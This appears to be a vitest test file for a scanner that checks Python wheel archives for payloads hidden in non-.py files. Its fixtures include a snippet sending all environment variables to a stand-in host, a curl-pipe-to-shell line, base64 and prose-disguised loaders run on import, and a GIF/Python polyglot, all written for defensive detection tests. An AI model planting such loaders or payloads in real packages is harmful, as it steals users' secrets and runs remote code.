import { afterAll, describe, expect, it } from "vitest";
import type { Analysis } from "../../../main/model/analysis/analysis.ts";
import { createScanPool } from "../../../main/scan/scan-pool.ts";
import { buildZip } from "../../support/zip-builder.ts";

const pool = createScanPool({ jobs: 1 });
afterAll(() => pool.close());

async function scan(files: Readonly<Record<string, string | Uint8Array>>): Promise<Analysis> {
	const bytes = buildZip(Object.entries(files).map(([name, content]) => ({ name, content })));
	const scanned = await pool.scan({ kind: "bytes", filename: "pond-1.0-py3-none-any.whl", bytes, origin: "upload" });
	await scanned.close();
	return scanned.analysis;
}

const PAYLOAD =
	'import os\nimport urllib.request\n\n\ndef go():\n    data = repr(dict(os.environ)).encode()\n    urllib.request.urlopen("https://example.invalid/collect", data)\n\n\ngo()\n';
const inPath = (analysis: Analysis, path: string) => analysis.findings.filter((finding) => finding.path === path);

describe("Python under a name that Python imports nothing from", () => {
	it("is read, and runs only where somebody runs it", async () => {
		const analysis = await scan({ "pond/__init__.py": "x = 1\n", "pond/notes.txt": PAYLOAD });
		const found = inPath(analysis, "pond/notes.txt");
		expect(found.length).toBeGreaterThan(0);
		expect(new Set(found.map(({ reach }) => reach))).toEqual(new Set(["unreached"]));
		expect(analysis.coverage).toMatchObject({ members: 2, examined: 2, notExamined: 0 });
	});

	it.each([
		["exec(open)", 'exec(open("pond/notes.txt").read())\n'],
		[
			"a loader",
			'import importlib.machinery\nimportlib.machinery.SourceFileLoader("n", "pond/notes.txt").load_module()\n',
		],
		["an interpreter", 'import subprocess, sys\nsubprocess.Popen([sys.executable, "pond/notes.txt"])\n'],
	])("runs on import through %s", async (_how, text) => {
		const analysis = await scan({ "pond/__init__.py": text, "pond/notes.txt": PAYLOAD });
		expect(inPath(analysis, "pond/notes.txt").map(({ reach }) => reach)).toContain("import");
	});

	describe("that does not even look like it", () => {
		const RUNNER = 'import os\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, "notes.txt")).read())\n';
		const prose = `The pond is small, and frogs live there.\nDo not read on.\n=====\n${PAYLOAD}`;
		const encoded = `${Buffer.from(PAYLOAD).toString("base64")}\n`;
		const DECODER = RUNNER.replace("exec(open", "import base64\nexec(base64.b64decode(open").replace(
			".read())",
			".read()))",
		);

		it.each([
			["one line of its own", RUNNER, "go = os.system; go('curl https://example.invalid/x | sh') # pond, frogs & more"],
			["behind prose", RUNNER, prose],
			["in base64", DECODER, encoded],
		])("is read where somebody runs it: %s", async (_what, runner, text) => {
			const analysis = await scan({ "pond/__init__.py": runner, "pond/notes.txt": text });
			const found = inPath(analysis, "pond/notes.txt");
			expect(found.map(({ reach }) => reach)).toContain("import");
			const line = analysis.coverage.skipped.find(({ path }) => path === "pond/notes.txt");
			expect(line?.extent).not.toBe("none");
		});

		it("is read where Python would refuse it, as far as it goes", async () => {
			const template = PAYLOAD.replace("import os\n", "%% head %%\nimport os\n");
			const analysis = await scan({ "pond/__init__.py": RUNNER, "pond/notes.txt": template });
			expect(inPath(analysis, "pond/notes.txt").map(({ reach }) => reach)).toContain("import");
			expect(analysis.coverage).toMatchObject({ inPart: 1, notExamined: 0 });
		});

		it("is told of where it is too long", async () => {
			const long = `${"frogs live in ponds, and ".repeat(45_000)}\n${PAYLOAD}`;
			const analysis = await scan({ "pond/__init__.py": RUNNER, "pond/notes.txt": long });
			expect(analysis.coverage.skipped).toContainEqual(
				expect.objectContaining({
					path: "pond/notes.txt",
					extent: "none",
					reason: expect.stringContaining("too long"),
				}),
			);
		});

		it.each([
			["nobody runs it", "x = open('pond/notes.txt').read()\n", prose],
			[
				"a program that is no Python is given it",
				"import subprocess\nsubprocess.run(['wc', 'pond/notes.txt'])\n",
				encoded,
			],
		])("is left alone where %s", async (_what, runner, text) => {
			const analysis = await scan({ "pond/__init__.py": runner, "pond/notes.txt": text });
			expect(inPath(analysis, "pond/notes.txt")).toEqual([]);
			expect(analysis.coverage.notExamined).toBe(1);
		});
	});

	it("needs no extension to be loaded", async () => {
		const text = 'import runpy\nrunpy.run_path("pond/data")\n';
		const analysis = await scan({ "pond/__init__.py": text, "pond/data": PAYLOAD });
		expect(inPath(analysis, "pond/data").map(({ reach }) => reach)).toContain("import");
	});

	it("is read in a picture that is a script as well", async () => {
		const analysis = await scan({ "pond/__init__.py": "x = 1\n", "pond/logo.gif": `GIF89a = 1\n${PAYLOAD}` });
		const rules = inPath(analysis, "pond/logo.gif").map(({ rule }) => rule);
		expect(rules).toContain("lying-extension");
		expect(rules.length).toBeGreaterThan(1);
	});

	it("is not taken for Python where Python would refuse it", async () => {
		const template = PAYLOAD.replace("def go():", "def {{ name }}():");
		const analysis = await scan({ "pond/__init__.py": "x = 1\n", "pond/template.txt": template });
		expect(inPath(analysis, "pond/template.txt")).toEqual([]);
		expect(analysis.coverage.skipped).toEqual([
			{
				path: "pond/template.txt",
				what: expect.stringMatching(/^\d+ B, Python source \(ascii\)$/),
				extent: "none",
				reason: "not examined: it looks like Python, but is no text that Python would run",
			},
		]);
	});

	it("is not seen in prose, and prose is not examined", async () => {
		const prose = "Ponds are small.\n\nTo use it, import pond and call pond.open() for every frog in the pond.\n";
		const analysis = await scan({ "pond/__init__.py": "x = 1\n", "pond/README.md": prose });
		expect(analysis.coverage).toMatchObject({ members: 2, examined: 1, inPart: 0, notExamined: 1 });
		expect(analysis.coverage.skipped[0]).toMatchObject({ path: "pond/README.md", extent: "none" });
	});
});
